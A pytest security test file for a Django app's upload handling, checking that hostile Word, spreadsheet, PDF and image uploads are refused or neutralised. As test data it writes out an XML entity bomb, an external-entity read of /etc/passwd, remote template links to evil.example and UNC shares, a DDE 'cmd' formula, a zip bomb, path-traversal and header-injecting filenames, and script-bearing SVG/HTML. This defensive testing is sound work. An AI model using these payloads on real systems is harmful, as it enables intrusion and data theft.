"""What people upload: judged by what it holds, cut down to what is needed, given back harmless."""

import io
import zipfile
from collections.abc import Callable

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from docx import Document

from gonghui.console.public import plain_name
from gonghui.kernel.files.pdfs import check_pdf
from gonghui.kernel.files.scans import scan_pdf
from gonghui.kernel.refusal import Refused
from gonghui.kernel.sheets import UnreadableFile, read_workbook, write_rows
from gonghui.kernel.sheets.paper import Group, PaperColumn, PaperTable, write_paper
from gonghui.planning.public import PlanDraft, plan_import
from tests.ledger_town import AT, CLERK, TODAY, LedgerTown
from tests.security.place import browser, found_town

BOMB = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
FETCH = b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word(*lines: str) -> bytes:
    document, out = Document(), io.BytesIO()
    for line in lines or ("2026年工作计划", "1.发展会员100人。"):
        document.add_paragraph(line)
    document.save(out)
    return out.getvalue()


def sheet(*rows: list[str]) -> bytes:
    out = io.BytesIO()
    write_rows(out, None, ["姓名", "备注"], rows or [["张三", "好"]])
    return out.getvalue()


def with_parts(package: bytes, *, front: bytes = b"", of: str = "", **added: bytes) -> bytes:
    """A package with further parts (`__` in a name is a slash, a last `_` a dot), and words before the XML of one part."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name == of:
                declared, _, rest = content.partition(b"?>")
                content = declared + b"?>" + front + rest
            new.writestr(name, content)
        for name, content in added.items():
            new.writestr(name.replace("__", "/").replace("_bin", ".bin").replace("_rels_", "_rels/"), content)
    return out.getvalue()


def linked(package: bytes, target: str, kind: str = "attachedTemplate") -> bytes:
    """A Word file that fetches something when it is opened."""
    relation = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'  # noqa: E501
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            if name != "word/_rels/settings.xml.rels":
                new.writestr(name, old.read(name))
        new.writestr("word/_rels/settings.xml.rels", relation)
    return out.getvalue()


@pytest.fixture
def town(db: None, monkeypatch: pytest.MonkeyPatch) -> LedgerTown:
    monkeypatch.setenv("GONGHUI_TODAY", TODAY.isoformat())
    return found_town()


def kept_plan(town: LedgerTown, data: bytes, name: str = "计划.docx") -> list[PlanDraft]:
    return plan_import(union=town.root, data=data, filename=name, year=2026, by=CLERK, at=AT)


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda: with_parts(word(), word__vbaProject_bin=b"x"), "宏"),
        (lambda: with_parts(sheet(), xl__vbaProject_bin=b"x"), "宏"),
        (lambda: with_parts(sheet(), xl__macrosheets__sheet1=b"x"), "宏"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "_VBA_PROJECT".encode("utf-16-le"), "宏"),
        (lambda: with_parts(word(), front=BOMB, of="word/document.xml"), "外面的东西"),
        (lambda: with_parts(word(), front=FETCH, of="word/styles.xml"), "外面的东西"),
        (lambda: linked(word(), "https://evil.example/a.dotm"), "外面的东西"),
        (lambda: linked(word(), "\\\\10.0.0.1\\share\\a.dotm"), "外面的东西"),
        (lambda: linked(word(), "file://///10.0.0.1/share/a.dotm"), "外面的东西"),
        (lambda: linked(word(), "http://10.0.0.1/a.png", "image"), "外面的东西"),
    ],
)  # fmt: skip
def test_a_plan_that_acts_when_it_is_opened_is_not_kept(town: LedgerTown, make: Callable[[], bytes], said: str) -> None:
    before = PlanDraft.objects.count()
    with pytest.raises(Refused) as no:
        kept_plan(town, make())
    assert said in no.value.what and no.value.todo and PlanDraft.objects.count() == before


def test_the_template_of_the_writers_own_computer_is_no_harm(town: LedgerTown) -> None:
    ordinary = linked(
        word("2026年工作计划", "1.发展会员100人。"), "file:///C:\\Users\\wu\\AppData\\Roaming\\Normal.dotm"
    )
    assert kept_plan(town, ordinary)


def test_a_plan_that_unpacks_beyond_measure_or_lies_about_it_is_not_read(town: LedgerTown) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * 105_000_000)
    lying = out.getvalue().replace((105_000_000).to_bytes(4, "little"), (9).to_bytes(4, "little"))
    for data, said in ((out.getvalue(), "展开后太大"), (lying, "损坏")):
        with pytest.raises(Refused, match=said):
            kept_plan(town, data)


def test_an_archive_inside_an_archive_stays_closed(town: LedgerTown) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("计划.docx", word())
    with pytest.raises(Refused, match="压缩包"):
        kept_plan(town, inner.getvalue(), "计划.zip")
    with pytest.raises(UnreadableFile, match="压缩包"):
        read_workbook(inner.getvalue(), "名单.xlsx")


@pytest.mark.parametrize("front", [BOMB, FETCH])
def test_a_table_that_defines_entities_is_not_opened(front: bytes) -> None:
    for part in ("xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"):
        data = sheet()
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            if part not in archive.namelist():
                continue
        with pytest.raises(UnreadableFile):
            read_workbook(with_parts(data, front=front, of=part), "名单.xlsx")


def test_of_a_table_with_macros_only_the_values_are_read() -> None:
    found = read_workbook(with_parts(sheet(["李四", "=cmd|'/c calc'!A1"]), xl__vbaProject_bin=b"x"), "名单.xlsm")
    assert [row[0] for row in found[0].rows] == ["姓名", "李四"]


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "＝1", "'=1", '=HYPERLINK("http://x")']
)
def test_no_cell_that_leaves_the_house_can_be_run(text: str) -> None:
    lists, papers = io.BytesIO(), io.BytesIO()
    write_rows(lists, text, [text, "备注"], [[text, 1]], sheet_name=text, mark=text)
    write_paper(papers, PaperTable(text, (PaperColumn(text, 10),), (Group(text, ((text,),)),), above=(text,)))
    for data in (lists, papers):
        with zipfile.ZipFile(data) as archive:
            whole = b"".join(archive.read(name) for name in archive.namelist())
        assert b"<f>" not in whole and b"ddeLink" not in whole and b"externalLink" not in whole
        rows = read_workbook(data.getvalue(), "a.xlsx")[0].rows
        assert not any(str(cell)[:1] in "=+-@\t\r＝" for row in rows for cell in row if isinstance(cell, str) and cell)


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../etc/passwd", "passwd"), ("..\\..\\boot.ini", "boot.ini"), ("C:\\con", "_con"), ("aux.docx", "_aux.docx"),
        ("名单\u202exslx.exe", "名单xslx.exe"), ("a\x00b.docx", "ab.docx"), ("a\r\nSet-Cookie: x.docx", "aSet-Cookie x.docx"),
        ("  . ", "文件"), ("", "文件"), (None, "文件"), ('a"b<c>|?.docx', "abc.docx"), ("计划.docx. ", "计划.docx"),
        ("x" * 300 + ".docx", "x" * 115 + ".docx"), ("./..", "文件"), ("𠮷田的计划.docx", "𠮷田的计划.docx"),
    ],
)  # fmt: skip
def test_a_name_is_a_name_and_no_path(given: str | None, shown: str) -> None:
    assert plain_name(given) == shown


def test_what_was_uploaded_comes_back_under_a_plain_name_and_only_to_be_saved(town: LedgerTown) -> None:
    client = browser(town, "zhou")
    odd = SimpleUploadedFile("x.docx", word("2026年工作计划", "1.发展会员33人。"))
    odd._name = 'C:\\..\\"计\u202e划".docx'
    answer = client.post(reverse("console:review-take"), {"file": odd, "year": "2026"})
    draft = PlanDraft.objects.latest("pk")
    assert answer.status_code == 302 and draft.document_name == "计划.docx"
    given = client.get(reverse("console:review-file", args=[draft.pk]))
    assert given["Content-Disposition"].startswith("attachment") and given["X-Content-Type-Options"] == "nosniff"
    assert given["Content-Type"] == "application/octet-stream"


@pytest.mark.parametrize(
    "data",
    [b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", b"<html><script>alert(1)</script>", b"GIF89a/*<script>*/",
     b"MZ\x90\x00", b"PK\x03\x04", b"#!/bin/sh\n", b"\x00" * 100],
)  # fmt: skip
def test_what_only_calls_itself_a_picture_is_no_scan(data: bytes) -> None:
    with pytest.raises(Refused):
        scan_pdf([data])


def test_a_page_of_the_web_with_a_paper_behind_it_is_no_paper() -> None:
    with pytest.raises(Refused, match="夹着别的"):
        check_pdf(b"<html><script>alert(1)</script>%PDF-1.7\nstartxref\n0\n%%EOF")


def test_more_than_any_page_takes_is_refused_before_it_is_taken_in(town: LedgerTown) -> None:
    client = browser(town, "zhou")
    client.cookies[settings.SESSION_COOKIE_NAME] = "x"
    huge = client.generic("POST", "/imports", b"", CONTENT_LENGTH=str(200 * 1024 * 1024))
    assert huge.status_code == 413 and "太大" in huge.content.decode()
    stranger = Client(SERVER_NAME="127.0.0.1").generic("POST", "/sign-in", b"", CONTENT_LENGTH=str(2 * 1024 * 1024))
    assert stranger.status_code == 413
